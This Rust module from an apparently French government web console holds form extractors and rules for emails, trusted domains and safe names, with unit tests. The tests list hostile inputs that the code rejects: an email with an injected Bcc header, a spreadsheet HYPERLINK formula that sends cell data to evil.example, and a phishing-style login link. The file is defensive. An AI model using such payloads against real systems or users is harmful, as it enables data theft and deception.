//! One module per screen of the console; handlers are named `<screen>_get` / `<screen>_post`.
//! Shared here: the form extractor and the rules on addresses and domains.

pub mod account;
pub mod admin;
pub mod admin_emails;
pub mod avis;
pub mod code;
pub mod demarche;
pub mod demarches;
pub mod fiche;
pub mod home;
pub mod login;
pub mod notifications;
pub mod observatoire;
pub mod porteurs;
pub mod proconnect;
pub mod profile;
pub mod reset;
pub mod satisfaction;
pub mod signup;

use axum::body::to_bytes;
use axum::extract::{FromRequest, FromRequestParts, Request};
use axum::http::request::Parts;
use axum::http::StatusCode;
use serde::de::DeserializeOwned;

use super::{Problem, MAX_FORM_BYTES};

/// A posted form (`application/x-www-form-urlencoded`), read within [`MAX_FORM_BYTES`]; a body
/// that cannot be read gets a French 400 page.
pub struct Fields<T>(pub T);

impl<T: DeserializeOwned, S: Send + Sync> FromRequest<S> for Fields<T> {
    type Rejection = Problem;

    async fn from_request(req: Request, _: &S) -> Result<Self, Problem> {
        let unreadable = || {
            Problem::new(
                StatusCode::BAD_REQUEST,
                "Formulaire illisible",
                "Les informations envoyées n'ont pas pu être lues. Revenez à la page précédente et recommencez.",
            )
        };
        let bytes = to_bytes(req.into_body(), MAX_FORM_BYTES).await.map_err(|_| unreadable())?;
        serde_urlencoded::from_bytes(&bytes).map(Fields).map_err(|_| unreadable())
    }
}

/// The query string of a page, parsed; one that cannot be read gets a French 400 page.
pub struct Params<T>(pub T);

impl<T: DeserializeOwned, S: Send + Sync> FromRequestParts<S> for Params<T> {
    type Rejection = Problem;

    async fn from_request_parts(parts: &mut Parts, _: &S) -> Result<Self, Problem> {
        serde_urlencoded::from_str(parts.uri.query().unwrap_or("")).map(Params).map_err(|_| {
            Problem::new(
                StatusCode::BAD_REQUEST,
                "Adresse illisible",
                "Les paramètres de cette adresse n'ont pas pu être lus.",
            )
        })
    }
}

/// A number in a path (`/console/admin/comptes/{id}/…`); anything else is a 404.
pub struct Id(pub i64);

impl<S: Send + Sync> FromRequestParts<S> for Id {
    type Rejection = Problem;

    async fn from_request_parts(parts: &mut Parts, state: &S) -> Result<Self, Problem> {
        match axum::extract::Path::<String>::from_request_parts(parts, state).await {
            Ok(axum::extract::Path(raw)) if raw.bytes().all(|b| b.is_ascii_digit()) => {
                raw.parse().map(Id).map_err(|_| Problem::not_found())
            }
            _ => Err(Problem::not_found()),
        }
    }
}

/// An e-mail address as stored: trimmed, lower-cased, and valid for sending (lettre's parser),
/// at most 254 characters; the French message otherwise.
pub fn normalize_email(raw: &str) -> Result<String, &'static str> {
    let email = raw.trim().to_lowercase();
    if email.is_empty() {
        return Err("Indiquez votre adresse e-mail.");
    }
    let valid = email.len() <= 254
        && email.parse::<lettre::Address>().is_ok()
        && email.rsplit_once('@').is_some_and(|(_, domain)| domain.contains('.') && !domain.starts_with('['));
    if valid {
        Ok(email)
    } else {
        Err("Indiquez une adresse e-mail valide, par exemple prenom.nom@ministere.gouv.fr.")
    }
}

/// A domain for the allowed list: lower-cased labels of letters, digits and hyphens, with at
/// least one dot. A leading `@` is dropped.
pub fn normalize_domain(raw: &str) -> Option<String> {
    let d = raw.trim().trim_start_matches('@').to_ascii_lowercase();
    let labels_ok = d.split('.').all(|l| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes().all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-')
    });
    (labels_ok && d.contains('.') && d.len() <= 253).then_some(d)
}

/// Whether addresses at `domain` are active once confirmed: `gouv.fr`, any `*.gouv.fr`, or a
/// domain of the administrators' list or under one.
pub fn domain_trusted(domain: &str, allowed: &[String]) -> bool {
    let under = |parent: &str| domain == parent || domain.strip_suffix(parent).is_some_and(|s| s.ends_with('.'));
    under("gouv.fr") || allowed.iter().any(|a| under(a))
}

pub use crate::search::fold;

/// Trims a free-text field and bounds its length (in characters).
pub fn text_field(raw: &str, max: usize) -> String {
    raw.trim().chars().filter(|c| !c.is_control()).take(max).collect()
}

/// A name (of an account, a démarche, an administration) as typed, checked: names travel in
/// e-mails to other people and in the public open data, so they must not carry a link, a
/// control character, or a leading `= + - @` (a spreadsheet formula). Trimmed; spaces inside
/// collapsed. `Err` is the French message for the field (`what`: « Le nom », « L'administration »).
pub fn name_field(raw: &str, max: usize) -> Result<String, String> {
    let name = raw.split_whitespace().collect::<Vec<_>>().join(" ");
    if raw.chars().any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r')) {
        return Err("ne peut pas contenir de caractère de contrôle.".into());
    }
    if name.chars().count() > max {
        return Err(format!("ne peut pas dépasser {max} caractères."));
    }
    if name.starts_with(['=', '+', '-', '@']) {
        return Err("ne peut pas commencer par =, +, - ou @.".into());
    }
    if name_problem(&name).is_some() {
        return Err("ne peut pas contenir d'adresse web ni d'adresse e-mail.".into());
    }
    Ok(name)
}

/// Why a stored name (which may predate [`name_field`]) is unfit to travel in an e-mail, if it is.
pub fn name_problem(name: &str) -> Option<&'static str> {
    if name.chars().any(char::is_control) {
        return Some("control character");
    }
    if name.trim_start().starts_with(['=', '+', '-', '@']) {
        return Some("formula");
    }
    let lower = name.to_lowercase();
    if lower.contains("://") || lower.contains("www.") || lower.contains('@') {
        return Some("link");
    }
    // A host name a mail client would turn into a link: letters, digits and hyphens on both
    // sides of a dot, the last part two letters or more (« service-public.fr », « evil.example »).
    // « M. Dupont » or « Dir. régionale » have a space after the dot, « 2.0 » no letters.
    let linkish = lower
        .split(|c: char| c.is_whitespace() || matches!(c, '(' | ')' | '«' | '»' | '"' | '\'' | ',' | ';' | '/'))
        .any(|word| {
            let word = word.trim_end_matches(['.', ':', '!', '?']);
            let parts: Vec<&str> = word.split('.').collect();
            parts.len() >= 2
                && parts.iter().all(|p| !p.is_empty() && p.chars().all(|c| c.is_alphanumeric() || c == '-'))
                && parts.last().is_some_and(|tld| tld.chars().count() >= 2 && tld.chars().all(char::is_alphabetic))
                && parts[..parts.len() - 1].iter().any(|p| p.chars().count() >= 2)
        });
    linkish.then_some("link")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_normalised_and_checked() {
        assert_eq!(normalize_email("  Prenom.Nom@Interieur.GOUV.fr "), Ok("prenom.nom@interieur.gouv.fr".into()));
        for bad in
            ["", "nom", "nom@", "@gouv.fr", "nom@localhost", "a b@x.fr", "nom@[127.0.0.1]", "x@x.fr\r\nBcc: y@z.fr"]
        {
            assert!(normalize_email(bad).is_err(), "{bad:?}");
        }
        assert!(normalize_email(&format!("{}@x.fr", "a".repeat(250))).is_err());
    }

    #[test]
    fn gouv_fr_and_allowed_domains_are_trusted() {
        let allowed = vec!["ademe.fr".to_string()];
        for ok in ["gouv.fr", "interieur.gouv.fr", "dgfip.finances.gouv.fr", "ademe.fr", "paris.ademe.fr"] {
            assert!(domain_trusted(ok, &allowed), "{ok}");
        }
        for no in ["gmail.com", "notgouv.fr", "gouv.fr.evil.com", "evilademe.fr", "fr"] {
            assert!(!domain_trusted(no, &allowed), "{no}");
        }
    }

    #[test]
    fn names_refuse_links_controls_and_formulas() {
        for ok in [
            "Demande de carte grise",
            "Ministère de l'Intérieur",
            "DGFiP – Direction générale des finances publiques",
            "M. Dupont",
            "Dir. régionale",
            "Version 2.0 du service",
            "Aide n° 3 : dépôt",
            "Jean-Pierre L'Écuyer",
        ] {
            assert_eq!(name_field(ok, 200).as_deref(), Ok(ok), "{ok}");
        }
        assert_eq!(name_field("  Deux   espaces \t ", 200).as_deref(), Ok("Deux espaces"));
        for bad in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")",
            "+33 formule",
            "-2+3",
            "@SUM(A1)",
            "URGENT : reconnectez-vous sur https://evil.example/login",
            "Voir www.exemple.fr",
            "Rendez-vous sur evil.example",
            "service-public.fr",
            "écrivez à nom@exemple.fr",
            "nul\u{0}octet",
            "retour\u{1b}[31m",
        ] {
            assert!(name_field(bad, 200).is_err(), "{bad:?}");
            assert!(name_problem(bad).is_some(), "{bad:?}");
        }
        assert!(name_field(&"a".repeat(201), 200).is_err());
        assert_eq!(name_problem("Démarche ordinaire"), None);
    }

    #[test]
    fn domains_for_the_list() {
        assert_eq!(normalize_domain(" @Ademe.FR "), Some("ademe.fr".into()));
        for bad in ["", "fr", "a..fr", "-a.fr", "a_b.fr", "a b.fr", "a.fr/x"] {
            assert_eq!(normalize_domain(bad), None, "{bad:?}");
        }
    }
}
